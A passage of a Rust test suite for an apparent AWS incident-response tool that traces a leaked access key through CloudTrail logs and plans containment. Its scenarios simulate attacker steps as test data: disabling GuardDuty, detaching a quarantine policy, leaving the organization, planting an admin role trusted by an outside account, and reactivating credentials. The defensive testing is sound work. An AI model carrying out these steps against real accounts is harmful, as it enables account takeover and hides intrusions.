    let quarantine = "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3";
    let policy = format!("arn:aws:iam::{MAIN}:policy/deploy");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let detach = json!({"userName": "ci-deployer", "policyArn": quarantine});
    s.call(&leaked, T0, iam, "DetachUserPolicy", detach);
    let version = json!({"policyArn": policy, "policyDocument": "{}", "setAsDefault": true});
    s.call(&leaked, T0 + 10, iam, "CreatePolicyVersion", version);
    s.call(
        &leaked,
        T0 + 20,
        "guardduty.amazonaws.com",
        "DeleteDetector",
        json!({"detectorId": "d1"}),
    );
    s.call(&leaked, T0 + 30, "organizations.amazonaws.com", "LeaveOrganization", Value::Null);
    // The same name in another service is not GuardDuty's.
    s.call(&leaked, T0 + 40, "frauddetector.amazonaws.com", "DeleteDetector", Value::Null);
    let d = write(&s, &[]);
    let p = plan_with_routes(&d, LEAKED, 1);
    let reviews = serde_json::to_string(&actions(&p, "review")).unwrap();
    for want in [quarantine, &policy, "DeleteDetector", "LeaveOrganization"] {
        assert!(reviews.contains(want), "{want}: {reviews}");
    }
    assert!(!reviews.contains("frauddetector"), "{reviews}");
}

/// A chain across accounts whose middle account's logs are missing, the first hop's record
/// without its response (no key, no role id): the role owner's copy of the next hop names its
/// caller `ROLEID:m1` of that account, which no credential carried, and the hop was left to
/// the account node, untainted, plan and verify OK. The name does not tell the role (a link
/// by name tainted a clean pipeline's session of another role, and plan.sh deleted the user
/// it made), so the hop is a session to check: denied, a review item, exit 1, verify fails;
/// and nothing when the trail ties the caller's role id to another role.
#[test]
fn a_hop_from_a_session_whose_role_id_no_record_gave_is_followed() {
    let mid = format!("arn:aws:iam::{SECOND}:role/mid");
    let last = format!("arn:aws:iam::{THIRD}:role/final");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let m1 = s.assume_role(&leaked, T0, &mid, "m1", 3600);
    s.edit_records(|_, r| {
        if r["requestParameters"]["roleArn"] == mid.as_str() {
            r.as_object_mut().unwrap().remove("responseElements");
        }
    });
    let f1 = s.assume_role(&m1, T0 + 300, &last, "f1", 7200);
    s.call(&f1, T0 + 360, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.create_user(&f1, T0 + 400, "svc-reports");
    let d = write(&s, &[SECOND]);
    assert!(!tainted_ids(&d, LEAKED).contains(&f1.node_id()));
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert!(principals(&p, "put_role_policy").contains(&last), "{p:#}");
    assert!(actions(&p, "delete_user").is_empty(), "{p:#}");
    assert_eq!(p["summary"]["sessions_to_check"], 1, "{p:#}");
    assert_eq!(verify(&d, &p).0, 1);
    // The caller's role id is another role's, which the trail shows (bob's session of role
    // pipeline): a clean pipeline session named m1, not the leaked key's, nothing to check.
    let bob = s.user_key(MAIN, "bob", "AKIAI44QH8DHBEXAMPLE");
    let pipe =
        s.assume_role(&bob, T0 - 600, &format!("arn:aws:iam::{SECOND}:role/pipeline"), "p", 60);
    let pipe_id = pipe.principal_id.split_once(':').unwrap().0.to_string();
    s.edit_records(|_, r| {
        if r["userIdentity"]["principalId"] == m1.principal_id.as_str() {
            r["userIdentity"]["principalId"] = json!(format!("{pipe_id}:m1"));
        }
    });
    let d = write(&s, &[SECOND]);
    let p = plan(&d, LEAKED, "strict");
    assert!(p["summary"]["sessions_to_check"].is_null(), "{p:#}");
    assert!(actions(&p, "delete_user").is_empty(), "{p:#}");
}

/// A hop seen only in the role owner's copy names its caller `ROLEID:deploy`, and two sessions
/// alive then match: the leaked key's and a clean pipeline's, both of role Admin and named
/// `deploy`. Each is linked and the hop is tainted (denied, its keys deactivated), but a user
/// its session made may be the pipeline's: it is denied everything and left to a human, never
/// deleted (a deletion cannot be undone). With the leaked key's session the only match, the
/// user is the attacker's and is removed.
#[test]
fn a_user_made_through_an_ambiguous_link_is_denied_and_left_to_a_human_not_deleted() {
    let admin = format!("arn:aws:iam::{MAIN}:role/Admin");
    let worker = format!("arn:aws:iam::{SECOND}:role/Worker");
    // The other session that matches the caller id: a clean pipeline's, the leaked key's own
    // (two tainted candidates are no ambiguity: the attacker's either way), or none.
    let build = |other: Option<bool>| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        if let Some(clean) = other {
            let who = if clean {
                s.user_key(MAIN, "pipeline", "AKIAI44QH8DHBEXAMPLE")
            } else {
                leaked.clone()
            };
            let first = s.assume_role(&who, T0 - 600, &admin, "deploy", 3600);
            s.call(&first, T0 - 500, "s3.amazonaws.com", "ListBuckets", Value::Null);
        }
        let a = s.assume_role(&leaked, T0, &admin, "deploy", 3600);
        let w = s.assume_role(&a, T0 + 300, &worker, "w1", 3600);
        // The caller's own copy went to a region the export lacks (F15).
        s.drop_records(|acct, r| {
            acct == MAIN
                && r["eventName"] == "AssumeRole"
                && r["requestParameters"]["roleArn"] == worker.as_str()
        });
        s.create_user(&w, T0 + 360, "svc-backup");
        let k = s.create_access_key(&w, T0 + 370, Some("svc-backup"));
        (write(&s, &[]), k)
    };
    let (d, key) = build(Some(true));
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&worker), "{p:#}");
    assert!(deactivated(&p).contains(&key.key.as_str()), "{p:#}");
    assert!(actions(&p, "delete_user").is_empty(), "a user a clean session may have made: {p:#}");
    assert!(actions(&p, "delete_access_key").is_empty(), "{p:#}");
    assert!(
        actions(&p, "put_user_policy")
            .iter()
            .any(|a| a["principal_arn"].as_str().is_some_and(|x| x.ends_with(":user/svc-backup"))),
        "denied everything: {p:#}"
    );
    assert!(
        actions(&p, "review").iter().any(|a| {
            let r = a["reason"].as_str().unwrap();
            r.contains("user svc-backup may not be one the attacker made")
                && r.contains("more than one session matches")
        }),
        "{p:#}"
    );
    assert_eq!(verify(&d, &p).0, 0);
    // The leaked key's sessions the only matches: the attacker's user, removed.
    for other in [None, Some(false)] {
        let (d, _) = build(other);
        let p = plan(&d, LEAKED, "strict");
        assert_eq!(actions(&p, "delete_user").len(), 1, "{other:?}: {p:#}");
    }
}

/// Holes in an account's evidence while a tainted session of it was alive are said, never read
/// as "it did nothing there": the account's logs begin after the session was issued (its issue
/// is known from the caller's copy), or hold no events of the region where IAM and global STS
/// calls are recorded (F15) while other regions' logs go on.
#[test]
fn holes_in_an_accounts_evidence_while_a_tainted_session_lived_are_named() {
    let role = format!("arn:aws:iam::{SECOND}:role/Ops");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let ops = s.assume_role(&leaked, T0, &role, "ops", 3600);
    s.call(&ops, T0 + 60, "iam.amazonaws.com", "ListUsers", Value::Null);
    s.call(&ops, T0 + 1800, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&ops, T0 + 3000, "s3.amazonaws.com", "ListBuckets", Value::Null);

    let whole = plan_notes(&s);
    assert!(!whole.iter().any(|n| n.contains("F15") || n.contains("begin at")), "{whole:?}");
    // The account's logs of its first half hour left out.
    let mut late = s.clone();
    late.drop_records(|acct, r| acct == SECOND && r["eventName"] != "ListBuckets");
    let n = plan_notes(&late);
    assert!(
        n.iter().any(|x| x.starts_with(&format!("logs of account {SECOND} begin at"))
            && x.contains("collect its logs from 2024-03-11T10:00:00Z")
            && x.contains(&ops.node_id())),
        "{n:?}"
    );
    // Its logs of us-east-1 left out: only eu-west-1's are there.
    let mut regional = s.clone();
    regional.edit_records(|acct, r| {
        if acct == SECOND {
            r["awsRegion"] = json!("eu-west-1");
        }
    });
    let n = plan_notes(&regional);
    assert!(
        n.iter().any(|x| x.contains(&format!("logs of account {SECOND} hold no us-east-1 events"))),
        "{n:?}"
    );
    // The leaked key's own account without its us-east-1 logs: what the key did in IAM.
    let mut keyless = s.clone();
    keyless.edit_records(|acct, r| {
        if acct == MAIN {
            r["awsRegion"] = json!("eu-west-1");
        }
    });
    let n = plan_notes(&keyless);
    assert!(
        n.iter()
            .any(|x| x.starts_with(&format!("logs of account {MAIN} hold no us-east-1 events"))
                && x.contains("tainted key(s)")
                && x.contains(LEAKED)),
        "{n:?}"
    );
}

/// A region a tainted session made calls in, whose logs stop while the session is still valid
/// and the account's other logs go on, is named (a review: a role chained through that
/// region's STS endpoint leaves its record there alone, F15, and the cut went unsaid while
/// the same cut in the region of global events was told).
#[test]
fn a_region_a_tainted_session_worked_in_whose_logs_stop_is_named() {
    let role = format!("arn:aws:iam::{SECOND}:role/Ops");
    // `quiet`: eu-west-1 is often silent for an hour (its monitor calls there an hour apart).
    let build = |eu_goes_on: bool, quiet: bool| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let ops = s.assume_role(&leaked, T0, &role, "ops", 3600);
        let monitor_key = s.new_key("AKIA");
        let monitor = s.user_key(SECOND, "monitor", &monitor_key);
        let mut in_eu = vec![
            s.call(&ops, T0 + 600, "ec2.amazonaws.com", "DescribeInstances", Value::Null),
            s.call(&ops, T0 + 1200, "ec2.amazonaws.com", "DescribeInstances", Value::Null),
        ];
        // One call in a region nobody else uses (a sweep): its logs end with that call, which
        // tells nothing of a cut.
        let swept = s.call(&ops, T0 + 300, "ec2.amazonaws.com", "DescribeInstances", Value::Null);
        s.edit_records(|_, r| {
            if r["eventID"] == json!(swept) {
                r["awsRegion"] = json!("ap-south-1");
            }
        });
        for t in (0..=3300).step_by(300) {
            let id = s.call(&monitor, T0 + t, "ec2.amazonaws.com", "DescribeRegions", Value::Null);
            if (t <= 1200 && (!quiet || t == 1200)) || (eu_goes_on && t == 3300) {
                in_eu.push(id);
            }
        }
        if quiet {
            in_eu.push(s.call(
                &monitor,
                T0 - 3000,
                "ec2.amazonaws.com",
                "DescribeRegions",
                Value::Null,
            ));
        }
        s.edit_records(|_, r| {
            if in_eu.iter().any(|id| r["eventID"] == json!(id)) {
                r["awsRegion"] = json!("eu-west-1");
            }
        });
        (s, ops)
    };

    let (cut, ops) = build(false, false);
    let n = plan_notes(&cut);
    assert!(!n.iter().any(|x| x.contains("ap-south-1")), "{n:?}");
    assert!(
        n.iter().any(|x| x.starts_with(&format!(
            "logs of account {SECOND} in eu-west-1, where tainted credential(s) of it made calls, end at 2024-03-11T10:20:00Z"
        )) && x.contains(&ops.node_id())),
        "{n:?}"
    );
    // The region's logs go on while the session lives: nothing to say.
    let (whole, _) = build(true, false);
    let n = plan_notes(&whole);
    assert!(!n.iter().any(|x| x.contains("eu-west-1")), "{n:?}");
    // A region that is often silent that long on its own: its quiet end tells nothing (a
    // review found generated trails' quiet regions named).
    let (quiet, _) = build(false, true);
    let n = plan_notes(&quiet);
    assert!(!n.iter().any(|x| x.contains("eu-west-1")), "{n:?}");
    // The leaked key itself working in the region of global events up to a cut there: the
    // rule for that region tells a key only when the region is absent (a review).
    let mut keyed = Scenario::new();
    let leaked = keyed.user_key(MAIN, "ci-deployer", LEAKED);
    let monitor_key = keyed.new_key("AKIA");
    let monitor = keyed.user_key(MAIN, "monitor", &monitor_key);
    keyed.call(&leaked, T0 + 600, "iam.amazonaws.com", "ListUsers", Value::Null);
    keyed.call(&leaked, T0 + 1200, "iam.amazonaws.com", "ListRoles", Value::Null);
    let mut elsewhere = Vec::new();
    for t in (0..=3300).step_by(300) {
        let id = keyed.call(&monitor, T0 + t, "ec2.amazonaws.com", "DescribeRegions", Value::Null);
        if t > 1200 {
            elsewhere.push(id);
        }
    }
    keyed.edit_records(|_, r| {
        if elsewhere.iter().any(|id| r["eventID"] == json!(id)) {
            r["awsRegion"] = json!("eu-west-1");
        }
    });
    let n = plan_notes(&keyed);
    assert!(
        n.iter().any(|x| x.starts_with(&format!(
            "logs of account {MAIN} in us-east-1, where tainted credential(s) of it made calls, end at 2024-03-11T10:20:00Z"
        )) && x.contains(LEAKED)),
        "{n:?}"
    );
    // An isolated partition's trail without the region of its global events: said as for the
    // commercial partition's (a review found no note at all there).
    let iso = write(&whole, &[]);
    into_partition(&iso, "aws-iso", "us-iso-west-1");
    let n = plan_notes_in(&iso);
    assert!(
        n.iter()
            .any(|x| x.contains(&format!("logs of account {SECOND} hold no us-iso-east-1 events"))),
        "{n:?}"
    );
}

/// A link inferred between two candidates that are both tainted is still ambiguous when one of
/// them is tainted only through an ambiguous link itself: that candidate may be a clean
/// pipeline's session, so the user made below it is denied and left to a human, not deleted.
#[test]
fn a_user_made_below_two_ambiguous_links_is_not_deleted() {
    let admin = format!("arn:aws:iam::{MAIN}:role/Admin");
    let worker = format!("arn:aws:iam::{SECOND}:role/Worker");
    let ops = format!("arn:aws:iam::{THIRD}:role/Ops");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let pipeline = s.user_key(MAIN, "pipeline", "AKIAI44QH8DHBEXAMPLE");
    let clean = s.assume_role(&pipeline, T0 - 600, &admin, "deploy", 3600);
    s.call(&clean, T0 - 500, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let a = s.assume_role(&leaked, T0, &admin, "deploy", 3600);
    // Worker session w1: its caller copy lost, so its caller is the clean session or the
    // attacker's, both named Admin/deploy.
    let w = s.assume_role(&a, T0 + 300, &worker, "w1", 3600);
    // The leaked key takes a Worker session of the same name, its records whole.
    let _ = s.assume_role(&leaked, T0 + 400, &worker, "w1", 3600);
    // An Ops session whose caller copy is lost: either Worker/w1 may have asked for it.
    let o = s.assume_role(&w, T0 + 500, &ops, "o1", 3600);
    s.drop_records(|acct, r| {
        r["eventName"] == "AssumeRole"
            && ((acct == MAIN
                && r["requestParameters"]["roleArn"] == worker.as_str()
                && r["eventTime"] == "2024-03-11T10:05:00Z")
                || (acct == SECOND && r["requestParameters"]["roleArn"] == ops.as_str()))
    });
    s.create_user(&o, T0 + 560, "svc-ops");
    let key = s.create_access_key(&o, T0 + 570, Some("svc-ops"));
    let trust = json!({"roleName": "ops-lambda", "assumeRolePolicyDocument": "{}"});
    s.call(&o, T0 + 580, "iam.amazonaws.com", "CreateRole", trust);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&ops), "{p:#}");
    // A role made there is denied everything, its reason saying it may be a clean session's
    // and not to delete it before a check (a review found "made by a tainted credential").
    let made = actions(&p, "put_role_policy")
        .into_iter()
        .find(|a| a["principal_arn"].as_str().is_some_and(|x| x.ends_with(":role/ops-lambda")))
        .unwrap_or_else(|| panic!("{p:#}"));
    assert_eq!(made["policy_name"], "TrailhoundDenyAll");
    let why = made["reason"].as_str().unwrap();
    assert!(
        why.contains("may be a clean session's role") && why.contains("do NOT delete"),
        "{why}"
    );
    assert!(deactivated(&p).contains(&key.key.as_str()), "{p:#}");
    assert!(actions(&p, "delete_user").is_empty(), "a user a clean session may have made: {p:#}");
    assert!(
        actions(&p, "put_user_policy")
            .iter()
            .any(|a| a["principal_arn"].as_str().is_some_and(|x| x.ends_with(":user/svc-ops"))),
        "denied everything: {p:#}"
    );
    assert_eq!(verify(&d, &p).0, 0);
}

/// A tainted credential that resets the password of an existing user's service-specific
/// credential, or sets an SSH key or certificate `Active` again, gives the attacker a working
/// long-term credential as surely as one it made: each is deactivated by the id its request
/// names, and verify fails a plan without it. Setting one `Inactive` is no such call.
#[test]
fn credentials_the_attacker_reset_or_set_active_again_are_deactivated() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let (svc, ssh, cert, off) = (
        "ACCAEXAMPLE123EXAMPLE",
        "APKAEIBAERJR2EXAMPLE",
        "TA7SMP42TDN5Z26OBPJE7EXAMPLE",
        "APKAOFFEXAMPLE",
    );
    let iam = "iam.amazonaws.com";
    // The password is secret: a reset's response may come without the credential.
    let reset = json!({"userName": "bob", "serviceSpecificCredentialId": svc});
    s.call_full(
        &leaked,
        T0 + 30,
        iam,
        "ResetServiceSpecificCredential",
        reset,
        Value::Null,
        None,
        "aws-cli/2.15.0",
    );
    let on = json!({"userName": "carol", "sSHPublicKeyId": ssh, "status": "Active"});
    // Set Active twice: one deactivation.
    s.call_full(
        &leaked,
        T0 + 50,
        iam,
        "UpdateSSHPublicKey",
        on.clone(),
        Value::Null,
        None,
        "aws-cli/2.15.0",
    );
    s.call_full(
        &leaked,
        T0 + 60,
        iam,
        "UpdateSSHPublicKey",
        on,
        Value::Null,
        None,
        "aws-cli/2.15.0",
    );
    let on = json!({"userName": "carol", "certificateId": cert, "status": "Active"});
    s.call_full(
        &leaked,
        T0 + 70,
        iam,
        "UpdateSigningCertificate",
        on,
        Value::Null,
        None,
        "aws-cli/2.15.0",
    );
    let inactive = json!({"userName": "dave", "sSHPublicKeyId": off, "status": "Inactive"});
    s.call_full(
        &leaked,
        T0 + 90,
        iam,
        "UpdateSSHPublicKey",
        inactive,
        Value::Null,
        None,
        "aws-cli/2.15.0",
    );
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let ids = |kind: &str| -> Vec<String> {
        actions(&p, kind)
            .iter()
            .map(|a| {
                format!(
                    "{}/{}",
                    a["user_name"].as_str().unwrap(),
                    a["credential_id"].as_str().unwrap()
                )
            })
            .collect()
    };
    assert_eq!(ids("deactivate_service_specific_credential"), [format!("bob/{svc}")], "{p:#}");
    assert_eq!(ids("deactivate_ssh_public_key"), [format!("carol/{ssh}")], "{p:#}");
    assert_eq!(ids("deactivate_signing_certificate"), [format!("carol/{cert}")], "{p:#}");
    let reason = actions(&p, "deactivate_service_specific_credential")[0]["reason"].to_string();
    assert!(reason.contains("whose password was reset by a tainted credential"), "{reason}");
    assert_eq!(verify(&d, &p).0, 0);
    for kind in ["deactivate_service_specific_credential", "deactivate_ssh_public_key"] {
        let mut m = p.clone();
        m["actions"].as_array_mut().unwrap().retain(|a| a["type"] != kind);
        let (code, v) = verify(&d, &m);
        assert_eq!(code, 1, "{kind}: {v}");
    }
    let (_, b, _) = run(&["blast", "--key", LEAKED, "--format", "json"], &d);
    let found = b["persistence"].to_string();
    assert!(found.contains(svc) && found.contains(ssh) && found.contains(cert), "{found}");
    assert!(!found.contains(off), "a key set Inactive is not persistence: {found}");
}

/// A short session that asks for a console sign-in token (`GetSigninToken`), whose console
/// session the logs never show (idle, or its calls logged with no key, F17): the console
/// session may live 12 hours from the sign-in (36 for a federated user's), so it is counted,
/// issued as late as the token can be used, and the plan denies its principal. Before, the
/// 15-minute session expired and took the console session with it: no deny, verify OK.
/// A token asked for within a quarter hour of the cut-off may open a session after it: NOT
/// COVERED.
#[test]
fn a_console_sign_in_token_whose_session_the_logs_never_show_is_cut() {
    let role = format!("arn:aws:iam::{MAIN}:role/Ops");
    const B: i64 = T0 - 7200;
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let session = s.assume_role(&leaked, B, &role, "s1", 900);
    s.call(&session, B + 120, "signin.amazonaws.com", "GetSigninToken", Value::Null);
    let fed = s.get_federation_token(&leaked, B + 200, "helper", 900);
    s.call(&fed, B + 300, "signin.amazonaws.com", "GetSigninToken", Value::Null);
    // The evidence goes on past the cut-off.
    let pipeline = s.user_key(MAIN, "pipeline", "AKIAI44QH8DHBEXAMPLE");
    s.call(&pipeline, T0 + 4000, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert_eq!(
        tainted.iter().filter(|t| t.starts_with("no-key-logged@")).count(),
        2,
        "{tainted:?}"
    );
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&role), "{p:#}");
    let user = format!("arn:aws:iam::{MAIN}:user/ci-deployer");
    assert!(principals(&p, "put_user_policy").contains(&user), "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
    for kind in ["put_role_policy", "put_user_policy"] {
        let mut m = p.clone();
        m["actions"].as_array_mut().unwrap().retain(|a| a["type"] != kind);
        let (code, v) = verify(&d, &m);
        assert_eq!(code, 1, "{kind}: {v:#}");
    }
    // The token asked for ten minutes before the cut-off: the console session may be issued
    // after it, which no deny on aws:TokenIssueTime reaches (F14).
    let mut late = Scenario::new();
    let leaked = late.user_key(MAIN, "ci-deployer", LEAKED);
    let session = late.assume_role(&leaked, T0 + 3000, &role, "s1", 900);
    late.call(&session, T0 + 3000, "signin.amazonaws.com", "GetSigninToken", Value::Null);
    late.call(&leaked, T0 + 4000, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&late, &[]);
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert!(p["notes"].to_string().contains("NOT COVERED"), "{p:#}");
}

/// A deactivation of the leaked key under a user the logs do not show it belongs to is a
/// guess AWS refuses unless it is right: verify does not count it (it had, OK). When the
/// records name the user only by `userName`, the plan's deactivation under that name holds.
#[test]
fn a_key_deactivated_under_a_guessed_user_is_not_counted_as_cut() {
    let build = |keep_name: bool| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.call(&leaked, T0, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.edit_records(|_, r| {
            let u = r["userIdentity"].as_object_mut().unwrap();
            u.remove("arn");
            if !keep_name {
                u.remove("userName");
            }
        });
        write(&s, &[])
    };
    let d = build(true);
    let p = plan(&d, LEAKED, "strict");
    assert_eq!(deactivated(&p), [LEAKED], "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
    let d = build(false);
    let (code, p, _) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "left to a review: {p:#}");
    let mut guessed = p.clone();
    guessed["actions"].as_array_mut().unwrap().push(json!({
        "order": 9, "type": "deactivate_access_key", "account_id": MAIN, "user_name": "alice",
        "access_key_id": LEAKED, "reason": "guessed",
        "command": format!("aws iam update-access-key --user-name alice --access-key-id {LEAKED} --status Inactive"),
    }));
    let (code, v) = verify(&d, &guessed);
    assert_eq!(code, 1, "{v:#}");
    assert!(v["keys_left_active"].to_string().contains(LEAKED), "{v:#}");
    assert!(v["notes"].to_string().contains("do not show it belongs to"), "{v:#}");
}

/// The leaked key mints a Cognito developer token (`GetOpenIdTokenForDeveloperIdentity`, good
/// up to 24 hours): the role session assumed with it as the token's identity is tainted and
/// denied, and what the token can still mint (the pool's roles are not in the logs) is NOT
/// COVERED until the token's end plus a role session's life (review of 2026-12-06: nothing
/// was tainted, verify OK). Another identity's session is not the attacker's.
#[test]
fn sessions_of_a_cognito_token_the_leaked_key_minted_are_tainted() {
    let role = format!("arn:aws:iam::{MAIN}:role/cognito-auth");
    let pool = "us-east-1:11111111-2222-3333-4444-555555555555";
    let (mine, other) = (
        "us-east-1:aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee",
        "us-east-1:ffffffff-0000-1111-2222-333333333333",
    );
    let cognito = "cognito-identity.amazonaws.com";
    let build = |duration: Option<i64>| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.cognito_developer_token(&leaked, T0 - 3600, pool, mine, duration);
        let used = s.assume_role_with_web_identity(
            cognito,
            &role,
            mine,
            "CognitoIdentityCredentials",
            T0,
            7200,
        );
        s.get_object(&used, T0 + 300, MAIN, "secrets", "a.csv");
        let theirs = s.assume_role_with_web_identity(
            cognito,
            &role,
            other,
            "CognitoIdentityCredentials",
            T0 + 60,
            3600,
        );
        s.call(&theirs, T0 + 400, "s3.amazonaws.com", "ListBuckets", Value::Null);
        (write(&s, &[]), used, theirs)
    };
    let (d, used, theirs) = build(Some(86_400));
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&used.node_id()), "{tainted:?}");
    assert!(!tainted.contains(&theirs.node_id()), "{tainted:?}");
    let (code, p, _) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "the token outlives the cut-off: {p:#}");
    assert!(principals(&p, "put_role_policy").contains(&role), "{p:#}");
    assert!(p["notes"].to_string().contains("NOT COVERED"), "{p:#}");
    assert_eq!(verify(&d, &p).0, 1);
    // A token of 15 minutes, asked for an hour before the session: that session is not its
    // (the token had stopped working), though what it could mint may still live.
    let (d, used, _) = build(Some(900));
    assert!(!tainted_ids(&d, LEAKED).contains(&used.node_id()));
    let (code, p, _) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{p:#}");
    assert!(actions(&p, "put_role_policy").is_empty(), "{p:#}");
    // A token for a new identity whose response was not logged: nothing to link, but what it
    // can mint is still counted (it had been dropped, verify OK).
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.cognito_developer_token(&leaked, T0, pool, mine, Some(86_400));
    s.edit_records(|_, r| {
        if r["eventName"] == "GetOpenIdTokenForDeveloperIdentity" {
            r["responseElements"] = Value::Null;
        }
    });
    let d = write(&s, &[]);
    let (code, p, _) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{p:#}");
    assert!(p["notes"].to_string().contains("NOT COVERED"), "{p:#}");
}

/// A 12-hour session issued after noon ends the next day: the sessions tree and the blast
/// table name the dates (a review found "times are UTC on 2024-03-11 … LIVE until 03:01" and
/// "15:01–03:01"). A refused `CreateAccessKey` is one failed attempt, naming its user (it was
/// listed twice, once as "access key ? created").
#[test]
fn times_of_a_session_that_ends_the_next_day_carry_its_date() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let t = T0 + 5 * 3600 + 60; // 15:01
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let role = s.assume_role(&leaked, t, &admin, "evil", 43_200);
    s.call(&role, t + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let refused = json!({"userName": "admin"});
    let iam = "iam.amazonaws.com";
    s.call_full(
        &leaked,
        t + 120,
        iam,
        "CreateAccessKey",
        refused,
        Value::Null,
        Some("AccessDenied"),
        "aws-cli/2.15.0",
    );
    let d = write(&s, &[]);
    let out = |args: &[&str]| {
        let o = bin().args(args).arg("--no-progress").arg(d.path().join("trail")).output().unwrap();
        String::from_utf8(o.stdout).unwrap()
    };
    let tree = out(&["sessions", "--key", LEAKED]);
    assert!(!tree.contains("times are UTC on"), "{tree}");
    assert!(tree.contains("AssumeRole 03-11 15:01"), "{tree}");
    let table = out(&["blast", "--key", LEAKED]);
    assert!(table.contains("03-11 15:01–03-12 03:01"), "{table}");
    assert!(table.contains("Attempted: CreateAccessKey on user/admin"), "{table}");
    assert!(!table.contains("Attempted, failed"), "{table}");
    // On one day the times stay short, the day named once.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = s.assume_role(&leaked, T0, &admin, "evil", 3600);
    s.call(&role, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let mut o = bin();
    o.args(["blast", "--no-progress", "--key", LEAKED]).arg(d.path().join("trail"));
    let table = String::from_utf8(o.output().unwrap().stdout).unwrap();
    assert!(table.contains("credentials (times UTC on 2024-03-11: issued–expires)"), "{table}");
    assert!(table.contains("10:00–11:00"), "{table}");
}

/// A role the leaked key made trusting another account, with AdministratorAccess attached and
/// no session in the logs: that account can assume it again after any cut-off (F6). A review
/// found plan exit 0, verify OK, and no deny on it. The plan now denies it everything (no
/// condition) as it does the attacker's users, and verify fails on a plan without that deny;
/// a role the attacker made and deleted gets none, and a session of it from outside is
/// covered by the same deny.
#[test]
fn a_role_the_attacker_made_is_denied_everything_whatever_its_sessions() {
    let iam = "iam.amazonaws.com";
    let trust = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::444455556666:root"},"Action":"sts:AssumeRole"}]}"#;
    let build = |deleted: bool, used: bool| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.call(
            &leaked,
            T0,
            iam,
            "CreateRole",
            json!({"roleName": "backup-helper", "assumeRolePolicyDocument": trust}),
        );
        let attach = json!({"roleName": "backup-helper", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"});
        s.call(&leaked, T0 + 10, iam, "AttachRolePolicy", attach);
        s.call(
            &leaked,
            T0 + 20,
            iam,
            "CreateRole",
            json!({"roleName": "scratch", "assumeRolePolicyDocument": trust}),
        );
        s.call(&leaked, T0 + 30, iam, "DeleteRole", json!({"roleName": "scratch"}));
        if deleted {
            s.call(&leaked, T0 + 40, iam, "DeleteRole", json!({"roleName": "backup-helper"}));
        }
        let mut session = None;
        if used {
            let outsider = s.user_key(SECOND, "mallory", "AKIAI44QH8DHBEXAMPLE");
            let role = format!("arn:aws:iam::{MAIN}:role/backup-helper");
            let back_in = s.assume_role(&outsider, T0 + 120, &role, "x", 3600);
            s.call(&back_in, T0 + 130, "s3.amazonaws.com", "ListBuckets", Value::Null);
            session = Some(back_in.node_id());
        }
        (write(&s, &[SECOND]), session)
    };
    let role = format!("arn:aws:iam::{MAIN}:role/backup-helper");
    let deny_all = |p: &Value| -> Vec<String> {
        actions(p, "put_role_policy")
            .iter()
            .filter(|a| a["policy_name"] == "TrailhoundDenyAll")
            .map(|a| a["principal_arn"].as_str().unwrap().to_string())
            .collect()
    };
    let (d, _) = build(false, false);
    let p = plan(&d, LEAKED, "strict");
    assert_eq!(deny_all(&p), vec![role.clone()], "{p}");
    let doc = actions(&p, "put_role_policy")[0]["policy_document"].to_string();
